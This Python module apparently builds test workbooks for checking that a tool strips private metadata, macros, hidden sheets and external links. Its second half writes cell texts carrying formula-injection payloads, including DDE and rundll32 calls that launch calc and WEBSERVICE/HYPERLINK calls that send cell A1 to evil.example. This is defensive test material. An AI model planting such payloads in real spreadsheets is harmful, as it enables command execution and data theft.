"""Workbooks full of what must not be shared: who made them and where, macros, links, hidden sheets, hostile texts."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import xlsxwriter
import xlwings

# Whatever of these turns up in a copy gives its author away.
PRIVATE = (
    "Jane Roe", "jroe", "Roe Capital", "DESK-4711", "HIDDEN-TEXT", "VERY-HIDDEN-TEXT", "JOURNAL-TEXT", "rates.xlsx",
    "RunMorning", "Secret", "ALVH_", "broker.example", "S-1-5-21",
)  # fmt: skip
ASOF = dt.datetime(2018, 10, 4, 9, 0)
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def write_private_book(path: Path) -> None:
    """Write the workbook: what XlsxWriter can do, then the rest put into the file as Excel would store it."""
    vba = path.with_name("vbaProject.bin")
    with zipfile.ZipFile(Path(xlwings.__file__).parent / "quickstart.xlsm") as quick:
        vba.write_bytes(quick.read("xl/vbaProject.bin"))
    draft = path.with_name("draft.xlsm")
    with xlsxwriter.Workbook(str(draft), {"use_future_functions": True, "strings_to_formulas": False}) as book:
        book.add_vba_project(str(vba))
        book.set_properties(
            {"title": "Morning", "author": "Jane Roe", "manager": "Jane Roe", "company": "Roe Capital",
             "comments": "in C:\\Users\\jroe", "keywords": "Jane Roe", "hyperlink_base": "C:\\Users\\jroe"}
        )  # fmt: skip
        book.set_custom_property("Owner", "Jane Roe")
        sheets = {name: book.add_worksheet(name) for name in ("Model", "Quiet", "Looks", "Silent", "Journal")}
        _formulas(book, sheets["Model"])
        _table(sheets["Model"])
        _looks(book, sheets["Looks"])
        _charts(book, sheets["Looks"])
        for sheet, text in (("Quiet", "HIDDEN-TEXT"), ("Silent", "VERY-HIDDEN-TEXT"), ("Journal", "JOURNAL-TEXT")):
            sheets[sheet].write_row("A1", [text, 1, 2, 3])
        sheets["Quiet"].hide()
        sheets["Silent"].very_hidden()
        sheets["Looks"].activate()
        _names(book)
    _inject(draft, path)


def _formulas(book: Any, sheet: Any) -> None:
    date = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    sheet.set_column("A:A", 24)
    sheet.write_datetime("A1", ASOF, date)
    sheet.write_formula("A2", "=ALVH_EXPECTED_MOVE(6000,0.15,14)", None, 176.27)
    sheet.write_formula("A3", '="=1+"&1', None, "=1+1")
    sheet.write_formula("A4", "=1/0", None, "#DIV/0!")
    sheet.write_formula("A5", "=1=1", None, True)
    sheet.write_formula("A6", '=""', None, "")
    sheet.write_formula("A7", '=" two  "&CHAR(10)&"lines"', None, " two  \nlines")
    sheet.write_formula("A8", '=HYPERLINK("https://broker.example/jroe","open")', None, "open")
    sheet.write_formula("A9", "='[1]Rates'!$A$1", None, 0.025)
    sheet.write_formula("A10", "=NA()", None, "#N/A")
    sheet.write_dynamic_array_formula("C1:C3", '=_xlfn.SEQUENCE(3)&" row"', None, "1 row")
    sheet.write_string("C2", "2 row")
    sheet.write_string("C3", "3 row")
    sheet.write_array_formula("D1:D2", "{=C9:C10*2}", None, 2)
    sheet.write_number("D2", 4)
    sheet.write_string("A12", "-2+3")
    sheet.write_rich_string("A13", "plain and ", book.add_format({"bold": True}), "bold")
    sheet.write_url("A14", "https://www.cboe.com/vix", string="Cboe")
    sheet.write_url("A15", "external:C:\\Users\\jroe\\Secret.xlsx", string="my file")
    sheet.write_url("A16", "mailto:jroe@broker.example", string="write to me")
    sheet.write_url("A17", "internal:Looks!A1", string="to Looks")
    sheet.write_url("A18", "internal:Quiet!A1", string="to Quiet")
    sheet.write_url("A19", "http://broker.example/login", string="old link")
    sheet.print_area("A1:H30")
    sheet.repeat_rows(0)
    sheet.freeze_panes(1, 0)
    sheet.protect("a password")


def _table(sheet: Any) -> None:
    columns = [
        {"header": "leg", "total_string": "sum"},
        {"header": "quantity", "total_function": "sum", "total_value": 3},
        {"header": "dollars", "formula": "=[@quantity]*100", "total_function": "sum"},
    ]
    sheet.add_table(
        "F1:H4", {"name": "Legs", "columns": columns, "total_row": True, "data": [["a", 1, 100], ["b", 2, 200]]}
    )


def _looks(book: Any, sheet: Any) -> None:
    red = book.add_format({"bg_color": "#FF0000"})
    sheet.write_column("A1", [1, 3, 2, 4])
    sheet.write_column("B1", [10, 20, 15, 25])
    sheet.conditional_format(
        "A1:A4", {"type": "formula", "criteria": "=IFERROR($A1>AVERAGE($A$1:$A$4),FALSE)", "format": red}
    )
    sheet.conditional_format("A1:A4", {"type": "formula", "criteria": "=ALVH_STALE($A1,asof,3)", "format": red})
    sheet.conditional_format("B1:B4", {"type": "formula", "criteria": "=B1>Quiet!$B$1", "format": red})
    sheet.conditional_format("B1:B4", {"type": "data_bar", "data_bar_2010": True})
    sheet.conditional_format("B1:B4", {"type": "cell", "criteria": ">", "value": "=area_of_looks", "format": red})
    sheet.data_validation("C1", {"validate": "list", "source": ["yes", "no"]})
    sheet.data_validation("C2", {"validate": "list", "source": "=$A$1:$A$4"})
    sheet.data_validation("C3", {"validate": "list", "source": "=Quiet!$A$1:$D$1"})
    sheet.data_validation("C4", {"validate": "custom", "value": "=ALVH_VERSION()>0"})
    sheet.add_sparkline("D1", {"range": "Looks!A1:A4"})
    sheet.add_sparkline("D2", {"range": "Quiet!B1:D1"})
    sheet.write_comment("E1", "Jane Roe:\ncheck this", {"author": "Jane Roe"})
    sheet.insert_button("E3", {"macro": "RunMorning", "caption": "Refresh"})
    sheet.insert_checkbox("E6", True)
    sheet.insert_image("G1", "logo.png", {"image_data": io.BytesIO(_png()), "description": "C:\\Users\\jroe\\logo.png"})
    sheet.insert_textbox("G5", "as shown", {"textlink": "=Model!$A$3"})
    sheet.set_landscape()
    sheet.fit_to_pages(1, 1)
    sheet.set_column("B:B", 17.5)


def _charts(book: Any, sheet: Any) -> None:
    for row, data in ((10, "Looks!$B$1:$B$4"), (26, "Quiet!$B$1:$D$1")):
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": f"={data}", "categories": "=Looks!$A$1:$A$4", "name": "=Looks!$B$1"})
        chart.set_title({"name": "PLACE FOR A TITLE"})
        sheet.insert_chart(row, 0, chart)
    sheets = book.add_chartsheet("Picture")
    chart = book.add_chart({"type": "column"})
    chart.add_series(
        {"values": "=dynamic_series", "values_data": [7, 8, 9], "name": "=Quiet!$A$1", "name_data": ["shown"]}
    )
    chart.add_series({"values": "='[1]Rates'!$A$1:$A$2", "values_data": [5, 6]})
    sheets.set_chart(chart)


def _names(book: Any) -> None:
    for name, meaning in (
        ("asof", "=Model!$A$1"), ("area_of_looks", "=Looks!$A$1:$B$4"), ("Looks!local_area", "=Looks!$A$1"),
        ("dynamic_series", "=OFFSET(Looks!$A$1,0,0,3,1)"), ("rate_of_mine", "=0.0425"),
        ("SecretRule", "=ALVH_VERSION()"),
        ("elsewhere", "='[1]Rates'!$A$1"), ("broken", "=#REF!"), ("on_quiet", "=Quiet!$A$1"),
        ("Auto_Open", "=Model!$A$1"),
        ("hidden_area", "=Model!$A$2"),
    ):  # fmt: skip
        book.define_name(name, meaning)


# ---- what XlsxWriter can't write ---------------------------------------------------------------------------


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")
    )


def _link(kind: str, target: str, number: int, *, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "/" in kind else f"{_OFFICE}/{kind}"
    return f'<Relationship Id="rIdX{number}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def _relations(*links: bytes) -> bytes:
    return b'<Relationships xmlns="%s">%s</Relationships>' % (_PACKAGE.encode(), b"".join(links))


_SHEETML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
# Part → content type and content.
_EXTRA: dict[str, tuple[str, bytes]] = {
    "xl/externalLinks/externalLink1.xml": (
        f"{_SHEETML}.externalLink+xml",
        f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{_OFFICE}" r:id="rIdX1"><sheetNames>'
        '<sheetName val="Rates"/></sheetNames></externalBook></externalLink>'.encode(),
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        "", _relations(_link("externalLinkPath", "file:///C:/Users/jroe/rates.xlsx", 1, external=True)),
    ),
    "xl/calcChain.xml": (
        f"{_SHEETML}.calcChain+xml", f'<calcChain xmlns="{_MAIN}"><c r="A2" i="1"/></calcChain>'.encode(),
    ),
    "xl/connections.xml": (
        f"{_SHEETML}.connections+xml",
        f'<connections xmlns="{_MAIN}"><connection id="1" name="Secret" type="5" refreshedVersion="6">'
        '<dbPr connection="Server=DESK-4711;User=jroe" command="x"/></connection></connections>'.encode(),
    ),
    "xl/persons/person.xml": (
        "application/vnd.ms-excel.person+xml",
        b'<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
        b'<person displayName="Jane Roe" id="{11111111-1111-1111-1111-111111111111}" userId="S-1-5-21" '
        b'providerId="AD"/></personList>',
    ),
    "xl/printerSettings/printerSettings1.bin": (f"{_SHEETML}.printerSettings", "\\\\DESK-4711".encode("utf-16-le")),
    "customUI/customUI14.xml": (
        "application/xml",
        b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="RunMorning"/>',
    ),
    "customXml/item1.xml": ("application/xml", b"<note>Jane Roe</note>"),
    "docProps/thumbnail.jpeg": ("image/jpeg", b"DESK-4711"),
}  # fmt: skip


def _inject(draft: Path, path: Path) -> None:
    with zipfile.ZipFile(draft) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    _edit(parts, "xl/workbook.xml", _private_workbook)
    _edit(parts, "xl/worksheets/sheet1.xml", _private_sheet)
    _edit(parts, "xl/drawings/drawing1.xml", lambda text: text.replace('macro=""', 'macro="[0]!Secret.Run"'))
    types = ""
    for part, (kind, content) in _EXTRA.items():
        parts[part] = content
        types += f'<Override PartName="/{part}" ContentType="{kind}"/>' if kind else ""
    _edit(parts, "[Content_Types].xml", lambda text: text.replace("</Types>", types + "</Types>"))
    _add_links(parts, "xl/_rels/workbook.xml.rels", [
        ("externalLink", "externalLinks/externalLink1.xml"), ("calcChain", "calcChain.xml"),
        ("connections", "connections.xml"), ("customXml", "../customXml/item1.xml"),
        ("http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml"),
    ])  # fmt: skip
    _add_links(
        parts, "xl/worksheets/_rels/sheet1.xml.rels", [("printerSettings", "../printerSettings/printerSettings1.bin")]
    )
    _add_links(parts, "_rels/.rels", [
        ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg"),
    ])  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _edit(parts: dict[str, bytes], part: str, change: Callable[[str], str]) -> None:
    before = parts[part].decode()
    after = change(before)
    assert after != before, part
    parts[part] = after.encode()


def _add_links(parts: dict[str, bytes], part: str, links: list[tuple[str, str]]) -> None:
    made = b"".join(_link(kind, target, number) for number, (kind, target) in enumerate(links, 1))
    parts[part] = parts[part].replace(b"</Relationships>", made + b"</Relationships>")


def _private_workbook(text: str) -> str:
    text = text.replace(
        "<workbookPr",
        '<fileSharing userName="Jane Roe" reservationPassword="CC1A"/><workbookPr', 1,
    )  # fmt: skip
    text = text.replace(
        "<bookViews>",
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<mc:Choice xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main" Requires="x15">'
        '<x15ac:absPath url="C:\\Users\\jroe\\" xmlns:x15ac="http://schemas.microsoft.com/'
        'office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent>'
        '<workbookProtection workbookPassword="CC1A" lockStructure="1"/><bookViews>', 1,
    )  # fmt: skip
    text = text.replace(
        "<definedNames>", '<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames>'
    )
    return text.replace('name="hidden_area"', 'name="hidden_area" hidden="1"')


def _private_sheet(text: str) -> str:
    """Shared formulas, a data table, and the printer's settings."""
    rows = (
        '<row r="21"><c r="A21"><f t="shared" ref="A21:A22" si="0">ROW()*2</f><v>42</v></c></row>'
        '<row r="22"><c r="A22"><f t="shared" si="0"/><v>44</v></c></row>'
        '<row r="23"><c r="A23"><f t="dataTable" ref="A23:A24" dt2D="0" dtr="0" r1="A2"/><v>46</v></c></row>'
        '<row r="24"><c r="A24"><v>48</v></c></row>'
    )
    text = text.replace("</sheetData>", rows + "</sheetData>")
    return text.replace("<tableParts", '<pageSetup orientation="landscape" r:id="rIdX1"/><tableParts', 1)


# ---- texts that look like formulas -------------------------------------------------------------------------

_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', ";=", ",=",
    "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u200b=", "\ufeff=", "\u00a0=",
)  # fmt: skip
_PAYLOADS = (
    "cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example/?"&A1,"click")', 'DDE("cmd";"/C calc";"x")', "A1",
    'WEBSERVICE("https://evil.example/"&A1)', "SUM(1,1)*cmd|'/C calc'!A0", "ALVH_VERSION()", 'EXEC("calc")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip


def write_hostile_book(path: Path) -> list[str]:
    """Write a workbook whose every text looks like a formula; returns the 200 texts."""
    texts = [start + payload for start in _STARTS for payload in _PAYLOADS]
    titles = texts[::10]
    draft = path.with_name("draft.xlsx")
    with xlsxwriter.Workbook(str(draft), {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        cells, heads = book.add_worksheet("Cells"), book.add_worksheet("Heads")
        for row, text in enumerate(texts):
            cells.write_string(row, 0, text)
            cells.write_formula(row, 1, "=T(A1)", None, text)
            cells.write_number(row, 2, row)
        headers = [text for text in texts if text.isprintable() or "\u200b" in text or "\ufeff" in text]
        columns: list[dict[str, Any]] = [{"header": text} for text in headers]
        heads.add_table(0, 0, 2, len(headers) - 1, {"columns": columns, "header_row": True})
        for text in texts:
            if len(text) <= 31 and text.isprintable() and not set(text) & set("[]:*?/\\") and text[0] != "'":
                book.add_worksheet(text).write_string("A1", text)
        for number in range(len(titles)):
            chart = book.add_chart({"type": "line"})
            chart.add_series({"values": "=Cells!$C$1:$C$2", "name": f"NAME-{number}-"})
            chart.set_title({"name": f"TITLE-{number}-"})
            cells.insert_chart(number * 16, 5, chart)
    with zipfile.ZipFile(draft) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            text = source.read(name).decode()
            for number, title in enumerate(titles if "/charts/" in name else ()):
                text = text.replace(f"TITLE-{number}-", escape(title)).replace(f"NAME-{number}-", escape(title))
            archive.writestr(name, text)
    return texts
